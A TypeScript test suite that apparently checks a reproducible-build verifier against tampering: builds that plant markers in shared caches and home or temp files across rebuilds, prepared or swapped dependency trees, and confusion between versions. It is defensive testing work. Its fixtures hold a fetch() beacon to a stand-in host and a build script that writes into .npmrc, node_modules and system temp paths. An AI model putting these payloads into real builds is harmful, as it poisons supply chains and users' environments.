import { hash } from 'node:crypto';
import { copyFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_ENGINES, TestWorld } from '../support/world.ts';

let world: TestWorld;
const TOOL = "module.exports = 'good';\n";
beforeAll(async () => {
  world = await TestWorld.open({ ownTrees: true });
  world.registry.publish({
    manifest: { name: 'tool', version: '1.0.0' },
    bytes: world.publish('tool', { 'index.js': TOOL }),
    time: '2024-01-01T00:00:00.000Z',
  });
});
afterAll(() => world.close());

const [anyEngine = 'bwrap'] = TEST_ENGINES;
const EVIL = 'fetch("https://collect.example");\n';
const MANIFEST = { files: ['dist'], scripts: { build: 'node build.js' }, devDependencies: { tool: '1.0.0' } };

/** Where the trees are whose keys are not among these. */
function treesBut(before: readonly string[]): readonly string[] {
  return trees().filter((key) => !before.includes(key));
}

function trees(): readonly string[] {
  const folder = path.join(world.cacheDir, 'fetched');
  return readdirSync(path.dirname(folder)).includes('fetched') ? readdirSync(folder) : [];
}

/**
 * The first build makes what anyone would expect and leaves something behind for the next, which makes what was
 * published: whoever shares what a build can write to between rebuilds calls that reproduced.
 */
describe.each(TEST_ENGINES)('%s: a build that leaves its payload for the next one to find', (engine) => {
  const PLACES = [
    'node_modules/tool/index.js',
    'node_modules/.package-lock.json',
    '.git/index',
    '/work/home/.npm/poison',
    '/work/home/.npmrc',
    '/work/tmp/poison',
    '/work/poison',
    '/tmp/poison',
    '/dev/shm/poison',
    '/run/source.tar',
    '/run/registry/poison',
    '/opt/node/poison',
    '/opt/npm/poison',
  ];
  const BUILD = `const fs = require('fs');
const places = ${JSON.stringify(PLACES)};
const holds = (place) => { try { return fs.readFileSync(place, 'latin1').includes('POISON'); } catch { return false; } };
const found = places.filter(holds);
for (const place of places) {
  try { fs.appendFileSync(place, '// POISON\\n'); } catch { try { fs.writeFileSync(place, '// POISON'); } catch {} }
}
fs.mkdirSync('dist');
fs.writeFileSync('dist/index.js', found.length > 0 ? ${JSON.stringify(EVIL)} : 'good\\n');
`;

  it('is not reproduced, whenever it is tried', async () => {
    const name = `planting-${engine}`;
    world.source(name, { 'build.js': BUILD }, MANIFEST);
    world.publish(name, { 'dist/index.js': EVIL }, MANIFEST);
    for (let time = 0; time < 3; time += 1) {
      expect((await world.verify(name, { engine })).verdict).toBe('diverged');
    }
  });
});

describe('a tree of another one', () => {
  const BUILD =
    "const fs = require('fs'); fs.mkdirSync('dist'); fs.writeFileSync('dist/index.js', `// ${require('tool')}\\n`);\n";

  it('is not taken for a package with the very same install, whose source was prepared for it', async () => {
    // An install leaves alone what is there already, as committed.
    const prepared = {
      'build.js': BUILD,
      'node_modules/tool/index.js': "module.exports = 'evil';\n",
      'node_modules/tool/package.json': { name: 'tool', version: '1.0.0' },
    };
    world.source('preparing', prepared, MANIFEST);
    world.publish('preparing', { 'dist/index.js': '// evil\n' }, MANIFEST);
    await world.verify('preparing', { engine: anyEngine });
    world.source('victim', { 'build.js': BUILD }, MANIFEST);
    world.publish('victim', { 'dist/index.js': '// evil\n' }, MANIFEST);
    const { verdict, findings } = await world.verify('victim', { engine: anyEngine });
    expect([verdict, findings.map((finding) => finding.path)]).toEqual(['diverged', ['dist/index.js']]);
  });

  it('is not taken when it lies in the place of a tree, as after a mix-up of files', async () => {
    const before = trees();
    world.source('mixed', { 'build.js': BUILD }, MANIFEST);
    world.publish('mixed', { 'dist/index.js': '// good\n' }, MANIFEST);
    await world.verify('mixed', { engine: anyEngine });
    const [own = ''] = treesBut(before);
    const [other = ''] = before;
    const archiveOf = (key: string) => path.join(world.cacheDir, 'fetched', key, 'tree.tar');
    copyFileSync(archiveOf(other), archiveOf(own));
    expect((await world.verify('mixed', { engine: anyEngine })).verdict).toBe('reproduced');
  });

  it('is not taken for an older version of the same commit, which it holds', async () => {
    const name = 'two-versions';
    const open = { ...MANIFEST, version: '0.0.0-development' };
    const copy =
      "const fs = require('fs'); fs.mkdirSync('dist'); fs.copyFileSync('node_modules/tool/dist/index.js', 'dist/index.js');\n";
    const bytes = world.publish(name, { 'dist/index.js': EVIL }, MANIFEST);
    const lock = {
      name,
      version: '0.0.0-development',
      lockfileVersion: 3,
      packages: {
        '': { name, version: '0.0.0-development', devDependencies: MANIFEST.devDependencies },
        'node_modules/tool': {
          version: '1.0.0',
          resolved: `https://registry.example/${name}/-/${name}-1.0.0.tgz`,
          integrity: `sha512-${hash('sha512', bytes, 'base64')}`,
          dev: true,
        },
      },
    };
    const repository = world.source(name, { 'build.js': copy, 'package-lock.json': lock }, open);
    repository.tag('v1.0.1');
    const later = world.publish(name, { 'dist/index.js': EVIL }, { ...MANIFEST, version: '1.0.1' });
    const published = {
      manifest: { ...MANIFEST, name, version: '1.0.1', repository: `https://git.example/owner/${name}` },
    };
    world.registry.publish({ ...published, bytes: later, time: '2024-04-01T00:00:00.000Z' });

    const before = trees();
    await world.verify(`${name}@1.0.1`, { engine: anyEngine });
    expect(treesBut(before), 'the later version may well install the older one').toHaveLength(1);
    const older = await world.verify(`${name}@1.0.0`, { engine: anyEngine });
    expect(older.verdict).toBe('unverifiable');
  });
});
